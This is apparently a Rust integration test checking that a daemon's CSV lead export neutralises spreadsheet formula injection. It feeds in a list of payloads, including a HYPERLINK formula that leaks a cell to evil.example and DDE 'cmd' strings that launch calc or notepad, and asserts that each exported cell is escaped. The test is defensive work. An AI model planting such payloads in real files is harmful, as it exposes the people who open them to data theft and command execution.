//! The lead CSV export against formula injection, on the real `echo5d` binary: text that a
//! web form, a manual entry or a note can carry must reach a spreadsheet as text, never as a
//! formula, and must stay readable (the original after one `'`).

mod common;

use common::daemon::Launch;
use common::real_api::RealApi;
use reqwest::StatusCode;
use serde_json::{Value, json};
use std::collections::HashMap;

/// Formula payloads in the shapes seen in the wild, with and without leading blanks.
const PAYLOADS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "+1 555 0100",
    "=1+2\";=1+2",
    "=1+2'\" ;,=1+2",
    "  =cmd|' /C notepad'!A1",
    " \u{a0}@SUM(A1:A9)",
    "   -1+1",
    "\t=1",
    "\r=1",
    "\t\t+A1",
    "\n=2+5",
    "\u{ff1d}1+1",
    "=",
    "-",
    // Already quoted by the attacker: gets its own quote, so the reader's is not eaten.
    "'=1+1",
];

/// Whether a spreadsheet could read `cell` as a formula: written here from the rule's
/// description, independently of the daemon's code.
fn formula_like(cell: &str) -> bool {
    if cell.starts_with(['\t', '\r', '\0']) {
        return true;
    }
    cell.trim_start().starts_with([
        '=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
    ])
}

#[tokio::test]
async fn export_cells_never_start_a_formula_and_keep_the_text() {
    let dir = tempfile::tempdir().unwrap();
    let (api, key) = RealApi::start_with_key(&dir.path().join("data"), Launch::new()).await;

    let mut ids = Vec::new();
    for (i, p) in PAYLOADS.iter().enumerate() {
        // From a website form: every text field the export shows.
        let (status, receipt) = api
            .ingest(
                &key,
                json!({
                    "name": p, "first_name": p, "last_name": p,
                    "email": format!("site{i}@example.com"), "phone": p, "company": p,
                    "message": p, "form_name": p, "page_url": p,
                    "utm_source": p, "utm_medium": p, "utm_campaign": p,
                }),
            )
            .await;
        assert_eq!(status, StatusCode::OK, "{receipt}");
        ids.push(receipt["id"].as_str().unwrap().to_string());

        // Entered by hand (an import): the e-mail's local part may start with a trigger too.
        let email = ["=cmd", "+tag", "-x", "@"][i % 4];
        let email = if email == "@" {
            format!("plain{i}@example.com")
        } else {
            format!("{email}{i}@evil.example")
        };
        let (status, lead) = api
            .admin(
                reqwest::Method::POST,
                "/api/v1/tenants/open-arms/leads",
                json!({
                    "name": p, "first_name": p, "last_name": p, "email": email,
                    // A phone number needs digits.
                    "phone": format!("{p} 555 0100"), "company": p, "message": p, "page_url": p,
                    "utm_source": p, "utm_medium": p, "utm_campaign": p,
                }),
            )
            .await;
        assert_eq!(status, StatusCode::CREATED, "{p:?}: {lead}");
        ids.push(lead["id"].as_str().unwrap().to_string());
    }
    // Notes keep leading blanks, tabs and line breaks: the other half of the rule.
    for (i, id) in ids.iter().enumerate() {
        let p = PAYLOADS[i % PAYLOADS.len()];
        let (status, body) = api
            .admin(
                reqwest::Method::POST,
                &format!("/api/v1/leads/{id}/notes"),
                json!({ "text": p }),
            )
            .await;
        assert_eq!(status, StatusCode::CREATED, "{p:?}: {body}");
    }

    let stored: HashMap<String, Value> = api
        .leads("open-arms")
        .await
        .into_iter()
        .map(|l| (l["id"].as_str().unwrap().to_string(), l))
        .collect();
    assert_eq!(stored.len(), ids.len());

    let resp = api
        .client
        .get(api.d.url("/api/v1/tenants/open-arms/leads.csv?spam=all"))
        .bearer_auth(&api.token)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    let body = resp.text().await.unwrap();
    // Every field in double quotes, so a separator or quote inside a value cannot open a
    // cell of its own.
    assert!(body.starts_with("\"id\",\"created_at\","), "{body:.200}");

    let mut reader = csv::ReaderBuilder::new().from_reader(body.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    let text_columns = [
        "name",
        "first_name",
        "last_name",
        "email",
        "phone",
        "company",
        "message",
        "source",
        "form_name",
        "page_url",
        "utm_source",
        "utm_medium",
        "utm_campaign",
        "notes",
    ];
    let (mut rows, mut escaped, mut blank_led, mut control_led) = (0, 0, 0, 0);
    for record in reader.records() {
        let record = record.unwrap();
        rows += 1;
        for cell in record.iter() {
            assert!(
                !formula_like(cell),
                "a cell that starts a formula: {cell:?}"
            );
        }
        let cell = |name: &str| {
            let i = header.iter().position(|h| h == name).unwrap();
            record.get(i).unwrap().to_string()
        };
        let lead = stored
            .get(&cell("id"))
            .expect("an exported id is a stored lead");
        for col in text_columns {
            let (original, got) = if col == "notes" {
                // One note: its text, then a line naming who wrote it and when.
                let cell = cell(col);
                let (text, by) = cell.rsplit_once("\n— ").expect("a note's byline");
                assert!(by.starts_with("admin, "), "{by:?}");
                let notes = lead["notes"].as_array().unwrap();
                assert_eq!(notes.len(), 1);
                (notes[0]["text"].as_str().unwrap(), text.to_string())
            } else {
                (lead[col].as_str().unwrap_or(""), cell(col))
            };
            if formula_like(original) || original.starts_with('\'') {
                escaped += usize::from(formula_like(original));
                if original.starts_with(char::is_whitespace) {
                    if original.starts_with(['\t', '\r']) {
                        control_led += 1;
                    } else {
                        blank_led += 1;
                    }
                }
                assert_eq!(
                    got.strip_prefix('\''),
                    Some(original),
                    "{col}: one quote, then the stored text"
                );
            } else {
                assert_eq!(
                    got, original,
                    "{col}: text that needs no quote is unchanged"
                );
            }
        }
    }
    assert_eq!(rows, ids.len());
    // The attack really reached the export: name, phone, message, UTM fields... and the
    // notes with leading blanks, tabs and carriage returns.
    assert!(
        escaped >= PAYLOADS.len() * 8,
        "only {escaped} escaped cells"
    );
    assert!(blank_led >= 4, "only {blank_led} cells led by blanks");
    assert!(
        control_led >= 4,
        "only {control_led} cells led by a tab or CR"
    );
}
